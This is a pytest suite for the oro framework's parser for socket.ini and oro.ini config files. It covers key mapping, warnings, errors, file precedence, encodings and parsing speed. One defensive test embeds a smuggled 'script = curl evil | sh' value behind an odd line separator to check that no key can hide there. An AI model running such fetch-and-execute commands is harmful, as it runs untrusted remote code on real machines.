"""Oro's and Socket Runtime's config files as they are: ``socket.ini`` and ``oro.ini`` read in
their own dialect, their keys mapped to oro's with the line they came from, one warning per key
oro does not honour, errors naming file, line and key, and which file wins (issue 40, item 2)."""

from __future__ import annotations

import codecs
import textwrap
import warnings
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from oro_framework import ConfigError, ConfigRegistry, ConfigWarning, Host
from oro_framework.cli import cli
from oro_framework.host.config import ini as ini_module
from oro_framework.host.config import load_config
from oro_framework.host.config.files import DOC, find_config_file
from oro_framework.host.config.ini import IniDocument, IniValue, format_ini, parse_ini
from oro_framework.host.config.ini_map import ini_file_as_toml


def as_tree(document: IniDocument) -> dict[str, dict[str, str | list[str]]]:
    """``{section: {key: text}}`` of ``document``, every section included (empty ones too)."""
    tree: dict[str, dict[str, str | list[str]]] = {name: {} for name in document.sections}
    for (section, key), value in document.values.items():
        tree.setdefault(section, {})[key] = value.value
    return tree


# Modelled on what `ssc init` writes and on public Socket apps (a service-worker example, a
# weather app with a copy-map and a protocol handler, a REPL with a build script and a backend
# command): their shapes, not their text.
SOCKET_INI = textwrap.dedent(
    """\
    ; A Socket Runtime app.
    # Both comment styles.

    [build]
    copy = "src"
    name = "notes-app"
    output = "build"
    flags = -O3
    env = USER, TMPDIR ; inline comment
    env[] = APP_MODE
    headless = false

    [build.watch]
    sources[] = src/

    [webview]
    root = "/"
    watch = true

    [webview.navigator.mounts]
    $HOST_HOME/notes-data/ = /notes

    [env]
    REGION = eu

    [permissions]
    allow_device_info = false
    allow_fullscreen = true

    [meta]
    bundle_identifier = "com.example.notes"
    title = "Notes"
    version = 1.0.0
    description = A small notes app
    copyright = "(c) Example 2024"

    [linux]
    cmd = "node backend.js"
    icon = "src/icon.png"

    [window]
    height = 60%
    width = 800
    backgroundColorDark = #000000

    [ios]
    simulator_device = "iPhone 14"
    """
)


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> ConfigRegistry:
    """The keys every installed plugin declares, as `oro run` would check an app against."""
    host = Host(tmp_path_factory.mktemp("keys"), use_config_file=False, resolve_secrets=False)
    host.close()
    return host.config_keys


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def load(keys: ConfigRegistry, path: Path) -> tuple[dict[str, Any], list[str]]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        config = load_config(keys, path=path)
    values = {name: config[name] for name in config}
    sources = {name: config.source(name) for name in config}
    values["__sources__"] = sources
    return values, [str(warning.message) for warning in caught]


# ---------------------------------------------------------------------------------------------
# The dialect
# ---------------------------------------------------------------------------------------------


def test_the_reader_takes_the_runtime_dialect(tmp_path: Path) -> None:
    text = """\
        top = 1
        [a]
        plain = 1.0.0
        quoted = "  spaced  "   ; a comment after the quote
        single = 'it "works"'
        percent = 60%
        colour = #fff
        cut = value ; comment
        list[] = one
        list[] = "two; three"
        [a.b]
        key = x
        [.c]
        deeper = y
        [empty]
        """
    document = parse_ini(textwrap.dedent(text), tmp_path / "socket.ini")
    assert as_tree(document) == {
        "": {"top": "1"},
        "a": {
            "plain": "1.0.0",
            "quoted": "spaced",
            "single": 'it "works"',
            "percent": "60%",
            "colour": "#fff",
            "cut": "value",
            "list": ["one", "two; three"],
        },
        "a.b": {"key": "x"},
        "a.b.c": {"deeper": "y"},
        "empty": {},
    }
    assert document.values[("a.b.c", "deeper")].line == 14


@pytest.mark.parametrize(
    ("text", "where", "problem"),
    [
        ("[meta]\nname\n", "socket.ini:2:1", "expected 'key = value'"),
        ("[meta]\n  = x\n", "socket.ini:2:3", "a key is missing"),
        ('[meta]\ntitle = "Notes\n', "socket.ini:2:9", "unterminated string"),
        ("[meta\ntitle = x\n", "socket.ini:1:6", "without its closing ']'"),
        ('[meta]\ntitle = "a" b\n', "socket.ini:2:9", "unexpected text after the closing"),
        ("[a..b]\n", "socket.ini:1:2", "empty section name"),
    ],
)
def test_a_syntax_error_names_file_line_and_column(
    tmp_path: Path, text: str, where: str, problem: str
) -> None:
    with pytest.raises(ConfigError) as raised:
        parse_ini(text, Path("my-app") / "socket.ini")
    assert raised.value.source == f"my-app/{where}"
    assert problem in str(raised.value)


_names = st.text(st.characters(codec="ascii", categories=("L", "N")), min_size=1, max_size=8)
_sections = st.lists(_names, min_size=1, max_size=3).map(".".join)
_values = st.text(
    st.characters(codec="utf-8", exclude_characters="\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"),
    max_size=12,
).map(str.strip)
_single_values = _values.filter(lambda value: not ('"' in value and "'" in value))
_tree = st.dictionaries(
    _sections,
    st.dictionaries(
        _names.filter(lambda name: not name.endswith("[]")),
        _single_values | st.lists(_single_values, min_size=1, max_size=3),
        max_size=4,
    ),
    max_size=4,
)


@given(_tree)
def test_what_format_ini_writes_parse_ini_reads_back(tree: dict[str, dict[str, Any]]) -> None:
    text = format_ini(tree)
    assert as_tree(parse_ini(text, Path("socket.ini"))) == tree


@given(st.text(max_size=200))
def test_any_text_parses_or_is_a_config_error_with_its_line(text: str) -> None:
    try:
        parse_ini(text, Path("socket.ini"))
    except ConfigError as error:
        file_name, line, column = str(error.source).split(":")
        assert file_name == "socket.ini"
        # Lines end at \n only: the line is one of those.
        assert 1 <= int(line) <= text.count("\n") + 1
        assert int(column) >= 1


# ---------------------------------------------------------------------------------------------
# The mapping
# ---------------------------------------------------------------------------------------------


def test_a_socket_ini_maps_onto_oros_keys_with_its_lines(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    values, _ = load(keys, write(tmp_path, "socket.ini", SOCKET_INI))
    sources = values["__sources__"]
    assert values["meta.name"] == "Notes"
    assert values["meta.bundle_identifier"] == "com.example.notes"
    assert values["meta.version"] == "1.0.0"
    assert values["meta.description"] == "A small notes app"
    assert values["window.height"] == "60%"
    assert values["window.width"] == 800
    assert values["window.headless"] is False
    # Nothing but [build] copy: the copied folder is served as it is.
    assert values["webview.root"] == "src"
    assert values["build.env"] == ["USER", "TMPDIR", "APP_MODE"]
    assert values["env.REGION"] == "eu"
    assert values["filesystem.mounts.notes"] == "~/notes-data/"
    assert values["permissions.allow_device_info"] is False
    assert sources["window.height"] == "socket.ini:42"
    assert sources["meta.name"] == "socket.ini:32"


def test_each_key_oro_does_not_honour_is_one_warning_naming_it_and_the_doc(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    values, messages = load(keys, write(tmp_path, "socket.ini", SOCKET_INI))
    expected = {
        "socket.ini:8: [build] flags",
        "socket.ini:18: [webview] watch",
        "socket.ini:28: [permissions] allow_fullscreen",
        "socket.ini:35: [meta] copyright",
        "socket.ini:39: [linux] icon",
        "socket.ini:44: [window] backgroundColorDark",
        "socket.ini:47: [ios] simulator_device",
    }
    assert {message.partition(" is not honoured")[0] for message in messages} == expected
    assert all(message.endswith(f"(see {DOC})") for message in messages)
    # Oro's backend process: oro-process starts it (docs/process.md).
    assert values["process.backend.cmd"] == "node backend.js"
    assert values["__sources__"]["process.backend.cmd"] == "socket.ini:38"
    # oro dev builds again when they change (build.watch_sources), as `ssc build --watch` does.
    assert values["build.watch_sources"] == ["src/"]


def test_oro_ini_keys_and_the_older_socket_names_map_too(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    path = write(
        tmp_path,
        "oro.ini",
        """\
        [bundle]
        identifier = co.example.repl
        [build]
        script = scripts/build.sh
        input = src
        name = repl
        [webview]
        root = /app/
        [webview.protocol-handlers]
        web+notes = /notes-sw.js
        [filesystem]
        sandbox_enabled = false
        """,
    )
    values, _ = load(keys, path)
    assert values["meta.bundle_identifier"] == "co.example.repl"
    assert values["meta.name"] == "repl"  # the runtime's title defaults to [build] name
    assert values["build.script"] == "scripts/build.sh"
    assert values["build.copy"] == "src"
    # A build script serves its output: webview.root is left to the build step.
    assert values["__sources__"]["webview.root"] == "default"
    assert values["webview.default_index"] == "/app/index.html"
    assert values["webview.protocol-handlers.web+notes"] == "/notes-sw.js"
    assert values["filesystem.sandbox_enabled"] is False


def test_a_secret_named_in_build_env_is_left_out_with_its_warning(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    path = write(tmp_path, "socket.ini", "[build]\nenv[] = WEATHER_API_KEY\nenv[] = REGION\n")
    values, messages = load(keys, path)
    assert values["build.env"] == ["REGION"]
    assert any("WEATHER_API_KEY would hand pages a secret" in message for message in messages)


def test_socket_media_denies_are_the_permission_brokers_keys(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    """``allow_camera``, ``allow_microphone`` and Socket's umbrella ``allow_user_media`` are the
    host's own keys now (the permission broker reads them): a deny loads as ``false``, which
    the broker holds against both engines' requests (tests/core/test_permission_broker.py)."""
    text = (
        "[permissions]\nallow_camera = false\nallow_user_media = false\nallow_microphone = true\n"
    )
    config = load_config(keys, path=write(tmp_path, "socket.ini", text))

    assert config["permissions.allow_camera"] is False
    assert config["permissions.allow_user_media"] is False
    assert config["permissions.allow_microphone"] is True


def test_window_sizes_take_oros_percentages_in_oro_toml_and_the_environment(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    path = write(tmp_path, "oro.toml", '[window]\nheight = "50%"\nwidth = 900\n')
    config = load_config(keys, path=path, environ={"ORO_WINDOW_WIDTH": "40%"})
    assert config["window.height"] == "50%"
    assert config["window.width"] == "40%"
    with pytest.raises(ConfigError, match="at most 100%"):
        load_config(keys, path=write(tmp_path, "oro.toml", '[window]\nheight = "101%"\n'))
    with pytest.raises(ConfigError, match="must be positive, got 0"):
        load_config(keys, path=write(tmp_path, "oro.toml", "[window]\nheight = 0\n"))


def test_an_oro_toml_written_for_oro_is_read_with_oros_key_names(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    """Oro's own oro.toml says ``[meta] title``: it is ``meta.name`` here, with no warning, and
    pages find it under Oro's flattened name too (``application.config.meta_title``)."""
    path = write(tmp_path, "oro.toml", '[meta]\ntitle = "Weather"\nbundle_identifier = "a.b"\n')
    with warnings.catch_warnings():
        warnings.simplefilter("error", ConfigWarning)
        config = load_config(keys, path=path)
    assert config["meta.name"] == "Weather"
    assert config.source("meta.name") == "oro.toml:2"
    page = config.flattened(include_secrets=False)
    assert (page["meta_name"], page["meta_title"]) == ("Weather", "Weather")


# ---------------------------------------------------------------------------------------------
# Which file
# ---------------------------------------------------------------------------------------------


def test_oro_toml_wins_over_an_ini_and_says_so_once(tmp_path: Path) -> None:
    write(tmp_path, "socket.ini", "[meta]\ntitle = From INI\n")
    write(tmp_path, "oro.toml", '[meta]\nname = "From TOML"\n')
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("default")
        for _ in range(3):
            host = Host(tmp_path, resolve_secrets=False)
            host.close()
    assert host.config["meta.name"] == "From TOML"
    said = [str(w.message) for w in caught if "is read and" in str(w.message)]
    assert said == [
        "oro.toml is read and socket.ini is not: an app's config is oro.toml, then oro.ini, "
        f"then socket.ini (see {DOC}); `oro init --from socket.ini --force` rewrites oro.toml "
        "from it"
    ]


def test_oro_ini_wins_over_socket_ini_as_in_oro(tmp_path: Path) -> None:
    write(tmp_path, "socket.ini", "[meta]\ntitle = Socket\n")
    write(tmp_path, "oro.ini", "[meta]\ntitle = Oro\n")
    with pytest.warns(ConfigWarning, match="oro.ini is read and socket.ini is not"):
        found = find_config_file(tmp_path)
    assert found.path == tmp_path / "oro.ini"
    with pytest.warns(ConfigWarning, match="remove the one not meant"):
        host = Host(tmp_path, resolve_secrets=False)
    host.close()
    assert host.config["meta.name"] == "Oro"
    assert host.config.source("meta.name") == "oro.ini:2"


def test_an_app_with_only_a_socket_ini_runs_as_it_is(tmp_path: Path) -> None:
    write(tmp_path, "socket.ini", SOCKET_INI)
    (tmp_path / "src").mkdir()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ConfigWarning)
        host = Host(tmp_path, resolve_secrets=False)
    host.close()
    assert host.config_file == tmp_path / "socket.ini"
    assert host.paths.resources == tmp_path / "src"
    assert host.config["meta.bundle_identifier"] == "com.example.notes"


# ---------------------------------------------------------------------------------------------
# The oro.toml it converts to
# ---------------------------------------------------------------------------------------------


def test_the_written_oro_toml_loads_to_the_same_config_as_the_ini(
    tmp_path: Path, keys: ConfigRegistry
) -> None:
    ini = write(tmp_path, "socket.ini", SOCKET_INI)
    text, mapped = ini_file_as_toml(ini, keys)
    toml = tmp_path / "oro.toml"
    toml.write_text(text, encoding="utf-8")
    from_ini, _ = load(keys, ini)
    from_toml, messages = load(keys, toml)
    from_ini.pop("__sources__")
    from_toml.pop("__sources__")
    assert from_toml == from_ini
    assert messages == []  # the notes are comments in oro.toml, not warnings
    assert 'height = "60%" # socket.ini [window] height' in text
    assert 'cmd = "node backend.js" # socket.ini [linux] cmd' in text
    assert len(mapped.notes) == 7


# ---------------------------------------------------------------------------------------------
# Lines, encodings and size (issue 50: what Oro, Socket and grep see is what oro reads)
# ---------------------------------------------------------------------------------------------

# Every character str.splitlines() ends a line at, but Socket's parser, grep and editors do not.
_ODD_SEPARATORS = "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
_TRIM = " \t\r\n"  # what the runtime's trim removes (src/runtime/string/string.cc)


@pytest.mark.parametrize("separator", list(_ODD_SEPARATORS), ids=ascii)
def test_no_key_hides_in_what_the_runtime_and_grep_read_as_one_line(
    tmp_path: Path, keys: ConfigRegistry, separator: str
) -> None:
    text = f"[build]\nname = demo{separator}script = curl evil | sh\n"
    ini = tmp_path / "socket.ini"
    ini.write_text(text, encoding="utf-8")
    assert len(text.splitlines()) == 3  # Python's own split would see a [build] script line
    document = parse_ini(text, ini)
    assert set(document.values) == {("build", "name")}
    assert document.values[("build", "name")].value == f"demo{separator}script = curl evil | sh"
    values, _ = load(keys, ini)
    assert values["build.script"] == ""


def test_crlf_lines_read_as_lf_lines_and_a_lone_cr_ends_no_line(tmp_path: Path) -> None:
    crlf = parse_ini("[meta]\r\ntitle = Notes\r\nversion = 1.0.0\r\n", Path("socket.ini"))
    assert as_tree(crlf) == {"meta": {"title": "Notes", "version": "1.0.0"}}
    assert crlf.values[("meta", "version")].line == 3
    # As in the runtime, which splits at \n and trims \r: one line, one key.
    lone = parse_ini("[meta]\ntitle = a\rscript = b\n", Path("socket.ini"))
    assert as_tree(lone) == {"meta": {"title": "a\rscript = b"}}


def test_a_utf8_byte_order_mark_is_accepted(tmp_path: Path, keys: ConfigRegistry) -> None:
    ini = tmp_path / "socket.ini"
    ini.write_bytes(b"\xef\xbb\xbf[meta]\r\ntitle = Notes\r\nbundle_identifier = com.x.n\r\n")
    values, _ = load(keys, ini)
    assert (values["meta.name"], values["meta.bundle_identifier"]) == ("Notes", "com.x.n")
    assert values["__sources__"]["meta.name"] == "socket.ini:2"


_NOT_UTF8 = {
    "utf-16": ("[meta]\ntitle = Notes\n".encode("utf-16"), "UTF-16"),
    "utf-16-be": (codecs.BOM_UTF16_BE + "[meta]\n".encode("utf-16-be"), "UTF-16"),
    "utf-16 without its mark": ("[meta]\ntitle = Notes\n".encode("utf-16-le"), "NUL"),
    "utf-32": ("[meta]\n".encode("utf-32"), "UTF-32"),
    "latin-1": ("[meta]\ntitle = Café\n".encode("latin-1"), "not UTF-8"),
}


@pytest.mark.parametrize("name", list(_NOT_UTF8))
def test_a_file_that_is_not_utf8_is_a_config_error_naming_it_and_its_encoding(
    tmp_path: Path, keys: ConfigRegistry, name: str
) -> None:
    data, said = _NOT_UTF8[name]
    ini = tmp_path / "socket.ini"
    ini.write_bytes(data)
    with pytest.raises(ConfigError, match=said) as raised:
        load_config(keys, path=ini)
    assert raised.value.source == str(ini)
    assert "save it as UTF-8" in str(raised.value)
    # The command line says so in one line, no traceback, exit status 1.
    result = CliRunner().invoke(cli, ["config", "list", "--file", str(ini)])
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: ConfigError: {ini}: "), result.stderr
    assert said in result.stderr
    assert "Traceback" not in result.output + result.stderr


def test_repeated_list_lines_are_read_in_linear_time(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, keys: ConfigRegistry
) -> None:
    # Counted, not timed: how many list items the reader copies into the values it makes. A copy
    # of the list per `key[] =` line is n²/2 items (120,000 lines took 30 s); appending in place
    # copies none.
    copied = 0
    made = ini_module.IniValue

    def counting(section: str, key: str, value: str | list[str], line: int) -> IniValue:
        nonlocal copied
        copied += len(value) if isinstance(value, list) else 0
        return made(section, key, value, line)

    monkeypatch.setattr(ini_module, "IniValue", counting)
    lines = 120_000
    text = "[build]\n" + "".join(f"env[] = V{number}\n" for number in range(lines))
    assert len(parse_ini(text, Path("socket.ini")).values[("build", "env")].value) == lines
    assert copied <= 2
    monkeypatch.undo()
    # And what a run reads: every entry, as oro.toml's build.env.
    ini = tmp_path / "socket.ini"
    ini.write_text(text, encoding="utf-8")
    values, _ = load(keys, ini)
    assert values["build.env"] == [f"V{number}" for number in range(lines)]


def _lines_by_newline(text: str) -> set[tuple[str, str]]:
    """The keys a reader splitting at \\n only (Socket's parser, grep) finds in ``text``,
    written with plain ``[name]`` headers."""
    found: set[tuple[str, str]] = set()
    section = ""
    for raw in text.split("\n"):
        line = raw.strip(_TRIM)
        if not line or line.startswith((";", "#")):
            continue
        if line.startswith("["):
            section = line[1 : line.index("]")].strip(_TRIM)
            continue
        key = line.partition("=")[0].strip(_TRIM).removesuffix("[]").strip(_TRIM)
        found.add((section, key))
    return found


_odd = st.sampled_from(list(_ODD_SEPARATORS + "\r\t "))
_word = st.text(st.sampled_from("abk"), min_size=1, max_size=3)
_piece = st.lists(_word | _odd, min_size=1, max_size=4).map("".join)
_key_line = st.builds(
    lambda key, append, value: f"{key}{'[]' if append else ''} = {value}",
    _piece.filter(lambda key: key.strip(_TRIM) != "" and "[" not in key),
    st.booleans(),
    st.lists(_piece | st.sampled_from(["[build]", "script = x", "=", ";c"]), max_size=4).map(
        "".join
    ),
)
_header = st.sampled_from(["[build]", "[meta]", "[a.b]", " [webview] ", "[meta]\r"])
_ini_texts = st.lists(_key_line | _header | _odd, max_size=8).flatmap(
    lambda lines: st.sampled_from(["\n", "\r\n"]).map(lambda end: end.join(lines))
)


@given(_ini_texts)
def test_the_reader_finds_the_keys_a_line_by_line_reading_at_newlines_finds(text: str) -> None:
    try:
        document = parse_ini(text, Path("socket.ini"))
    except ConfigError:
        return
    assert set(document.values) == _lines_by_newline(text)


@settings(max_examples=300)
@given(st.binary(max_size=300) | _ini_texts.map(lambda text: text.encode("utf-8")))
def test_any_bytes_give_a_config_or_a_config_error(
    keys: ConfigRegistry, tmp_path_factory: pytest.TempPathFactory, data: bytes
) -> None:
    ini = tmp_path_factory.mktemp("bytes") / "socket.ini"
    ini.write_bytes(data)
    error: ConfigError | None = None
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ConfigWarning)
        try:
            load_config(keys, path=ini)
            # What `oro init --from` writes of it is an oro.toml that loads.
            text, _ = ini_file_as_toml(ini, keys)
            load_config(keys, path=ini.with_name("oro.toml"), content=text)
        except ConfigError as raised:
            error = raised
    if error is not None:
        assert str(error.source).startswith(str(ini))
